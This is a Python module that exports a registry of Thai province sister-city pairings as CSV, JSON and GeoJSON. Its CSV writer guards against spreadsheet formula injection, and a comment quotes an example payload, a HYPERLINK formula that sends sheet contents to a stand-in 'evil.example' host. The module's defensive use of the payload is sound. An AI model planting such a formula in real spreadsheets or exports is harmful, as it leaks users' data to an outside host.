"""Machine-readable downloads: /data/pairs.csv, /data/pairs.json, /data/pairs.geojson.

One flat row per pair (`rows`) feeds all three, so they always agree; the data-dictionary
page (content/*/data.md) describes the same fields in the same order.
"""
from __future__ import annotations

import csv
import io
import json
from typing import Callable

from .model import Registry

FIELDS = (
    "id", "status", "stage", "year_be", "year_ce", "list_no", "signed_date",
    "province_en", "province_th", "province_slug", "region",
    "partner_name_en", "partner_name_th", "partner_name_native", "partner_lang", "partner_level",
    "partner_parent_en", "partner_parent_th", "country_code", "country_en", "country_th",
    "partner_lat", "partner_lon", "alt_names", "source_row", "source_line", "notes_en", "notes_th",
    "doubtful", "doubt_en", "doubt_th",   # a note states a doubt (notes with doubt: true); those notes
)
LICENCE = "CC BY 4.0 (compilation); the source documents are Thai government publications"


def rows(registry: Registry) -> list[dict]:
    out = []
    for p in sorted(registry.pairs, key=lambda p: p.list_no):
        out.append({
            "id": p.id, "status": p.status, "stage": p.stage, "year_be": p.year_be, "year_ce": p.year_ce,
            "list_no": p.list_no,
            "signed_date": f"{p.signed_month[0]:04d}-{p.signed_month[1]:02d}" if p.signed_month else None,
            "province_en": p.province.name_en, "province_th": p.province.name_th, "province_slug": p.province.slug,
            "region": p.province.region.key,
            "partner_name_en": p.partner.name_en, "partner_name_th": p.partner.name_th,
            "partner_name_native": p.partner.name_native, "partner_lang": p.partner.lang,
            "partner_level": p.partner.level, "partner_parent_en": p.partner.parent_en,
            "partner_parent_th": p.partner.parent_th, "country_code": p.partner.country.code,
            "country_en": p.partner.country.name_en, "country_th": p.partner.country.name_th,
            "partner_lat": p.partner.lat, "partner_lon": p.partner.lon,
            "alt_names": list(p.partner.alt_names), "source_row": p.source.row, "source_line": p.source.line,
            "notes_en": [n.en for n in p.notes], "notes_th": [n.th for n in p.notes],
            "doubtful": p.doubtful,
            "doubt_en": [n.en for n in p.doubt_notes], "doubt_th": [n.th for n in p.doubt_notes],
        })
    return out


# A spreadsheet program runs a cell that begins with one of these as a formula
# (=HYPERLINK("http://evil.example/?"&A1) sends the sheet away): OWASP's "CSV injection".
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value) -> str | int | float:
    """A value as a CSV cell: lists joined with ' | ', None empty, and text that a spreadsheet
    would take for a formula prefixed with a single quote, as OWASP recommends (the quote shows
    in the cell; pairs.json and pairs.geojson keep the text as it is). Numbers are written as
    numbers: a negative longitude is not a formula."""
    if value is None:
        return ""
    if isinstance(value, bool):   # (before numbers: a bool is an int) true/false, as in pairs.json
        return "true" if value else "false"
    if isinstance(value, list):
        value = " | ".join(value)
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def to_csv(registry: Registry) -> bytes:
    """UTF-8 with a byte-order mark, so spreadsheet programs read the Thai correctly;
    list fields are joined with ' | '; text is never a formula (csv_cell)."""
    buf = io.StringIO()
    writer = csv.DictWriter(buf, fieldnames=FIELDS, lineterminator="\r\n")
    writer.writeheader()
    for row in rows(registry):
        writer.writerow({k: csv_cell(v) for k, v in row.items()})
    return ("\ufeff" + buf.getvalue()).encode("utf-8")


def to_json(registry: Registry) -> bytes:
    doc = {
        "as_of": registry.as_of.isoformat(),
        "licence": LICENCE,
        "source": {k: {"title_th": s.title_th, "title_en": s.title_en, "ref_th": s.ref_th, "ref_en": s.ref_en,
                       "date": s.date.isoformat()} for k, s in registry.sources.items()},
        "stated_totals": {k: {"pairs": v.pairs, "provinces": v.provinces} for k, v in registry.stated.items()},
        "pairs": rows(registry),
        "provinces": [{"name_en": p.name_en, "name_th": p.name_th, "slug": p.slug, "region": p.region.key,
                       "capital_en": p.capital_en, "capital_th": p.capital_th, "lat": p.lat, "lon": p.lon}
                      for p in registry.provinces],
        "countries": [{"code": c.code, "slug": c.slug, "name_en": c.name_en, "name_th": c.name_th,
                       "formal_en": c.formal_en, "formal_th": c.formal_th, "world_region": c.world_region}
                      for c in registry.countries],
    }
    return _dumps(doc).encode("utf-8")


def _dumps(doc: dict) -> str:
    """JSON with each key of the top and each record of its lists on a line of its own, readable
    in a text editor. (json's indent= uses its pure-Python encoder: ~1 s at 10,000 pairs.)"""
    def value(v) -> str:
        if isinstance(v, list):
            return "[\n" + ",\n".join("  " + json.dumps(x, ensure_ascii=False) for x in v) + "\n ]"
        return json.dumps(v, ensure_ascii=False)
    return "{\n" + ",\n".join(f" {json.dumps(k)}: {value(v)}" for k, v in doc.items()) + "\n}\n"


def to_geojson(registry: Registry) -> bytes:
    features = []
    for row in rows(registry):
        props = {k: v for k, v in row.items() if k not in ("partner_lat", "partner_lon")}
        features.append({"type": "Feature", "id": row["id"],
                         "geometry": {"type": "Point", "coordinates": [row["partner_lon"], row["partner_lat"]]},
                         "properties": props})
    return json.dumps({"type": "FeatureCollection", "features": features}, ensure_ascii=False).encode("utf-8")


def file_makers(model) -> dict[str, Callable[[], bytes]]:
    """Each download and the function that makes it (the build runs them as separate tasks)."""
    r = model.registry
    return {"data/pairs.csv": lambda: to_csv(r), "data/pairs.json": lambda: to_json(r),
            "data/pairs.geojson": lambda: to_geojson(r)}

